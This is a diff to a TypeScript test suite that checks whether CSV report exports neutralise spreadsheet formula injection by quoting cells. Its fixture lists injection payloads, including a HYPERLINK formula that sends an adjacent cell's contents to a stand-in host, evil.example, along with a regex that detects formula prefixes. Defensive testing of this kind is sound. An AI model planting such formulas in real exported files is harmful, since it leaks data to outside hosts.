@@ -14,6 +14,8 @@ import { createFlowFixture, type FlowFixture } from '../helpers/flowFixture.js';
 
 const NOW = new Date('2025-01-10T12:00:00Z');
 const LARGE = 200_000;
+// Dossier keys a spreadsheet would run as formulas (the first one calls out with the cell beside it).
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"D08")', '+1', '@SUM(A1)', '\tTAB', '\rCR', '\uff1d1', '\uff0d1'];
 
 /** A slow reader that records each write's size and the most it was ever left holding. */
 function slowSink(): { sink: Writable; chunks: number[]; maxBuffered: () => number; text: () => string } {
@@ -53,6 +55,22 @@ describe('reports stream to their output', () => {
        FROM (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $3 AND file_key = $4 AND outcome = 'emitted' ORDER BY ordinal LIMIT 2) o, unnest($5::text[]) c`,
       [reply.rows[0]!.id, files[1]!.file_id, runId, files[1]!.file_key, ['é🙂', '\\', 'a;b']],
     );
+    // Text from the dossier and from a reply that a spreadsheet would take for formulas: quarantined
+    // keys, the key of a record of the rejected file, the name of a reply set aside.
+    await fx.db.pool.query(
+      `INSERT INTO maillon.record_outcomes (run_id, ordinal, source_key, outcome, rule, message)
+       SELECT $1, 900000 + k.n, k.key, 'quarantined', 'no-insurer', 'no insurer on the day' FROM unnest($2::text[]) WITH ORDINALITY k (key, n)`,
+      [runId, FORMULAS],
+    );
+    await fx.db.pool.query(`UPDATE maillon.runs SET extracted = extracted + $2, quarantined = quarantined + $2 WHERE run_id = $1`, [runId, FORMULAS.length]);
+    await fx.db.pool.query(
+      `UPDATE maillon.record_outcomes SET source_key = '-2+3'
+       WHERE (run_id, ordinal) = (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $1 AND file_key = $2 AND outcome = 'emitted' ORDER BY ordinal LIMIT 1)`,
+      [runId, files[0]!.file_key],
+    );
+    await fx.db.pool.query(`INSERT INTO maillon.replies (server, name, received_at, state, reason, file_name) VALUES ('s', '@SUM(1+1)', now(), 'set_aside', 'not a reply', $1)`, [
+      (await fx.db.pool.query<{ name: string }>(`SELECT name FROM maillon.files WHERE file_id = $1`, [files[0]!.file_id])).rows[0]!.name,
+    ]);
   });
   afterAll(async () => fx.close());
 
@@ -83,6 +101,22 @@ describe('reports stream to their output', () => {
     const lists = { ...readReportLists(fx.db.pool, head.runId), quarantine: refused, recordIssues: refused };
     expect(await collectChunks(reportChunks('json', head, lists))).toBe(`${JSON.stringify(report, null, 2)}\n`);
     expect(await collectChunks(reportChunks('csv', head, lists))).toBe(await reportToCsv(report));
+  });
+
+  it('hands a spreadsheet no formula from the dossier or a reply: a single quote before it; numbers stay numbers', async () => {
+    const report = await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW);
+    const csv = await reportToCsv({ ...report, facts: { unallocatedCents: -1250, note: '-x' } });
+    const rows = parse(csv, { relax_column_count: true });
+    const startsFormula = (c: string): boolean => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(c);
+    // Only negative numbers start so: a number cell, which a spreadsheet reads as a number.
+    expect(rows.flat().filter((c) => startsFormula(c) && !/^-\d+$/.test(c))).toEqual([]);
+    expect(rows.filter((r) => r[0] === 'quarantine' && startsFormula(r[1]!.slice(1))).map((r) => r[1])).toEqual(FORMULAS.map((k) => `'${k}`).sort());
+    expect(rows.find((r) => r[0] === 'record' && r[1] === "'-2+3")).toBeDefined();
+    expect(rows.find((r) => r[0] === 'reply')?.slice(0, 3)).toEqual(['reply', "'@SUM(1+1)", 'set_aside']);
+    expect(report.daysRemaining).toBeLessThan(0);
+    expect(csv).toContain(`\ndeadline,${report.deadline},${report.daysRemaining},days remaining\n`);
+    expect(csv).toContain("\nfact,unallocatedCents,-1250,\nfact,note,'-x,\n");
+    expect(await streamed('csv')).toBe(await reportToCsv(report));
   });
 
   it('the command prints the JSON report and writes the CSV to a 0600 file', async () => {
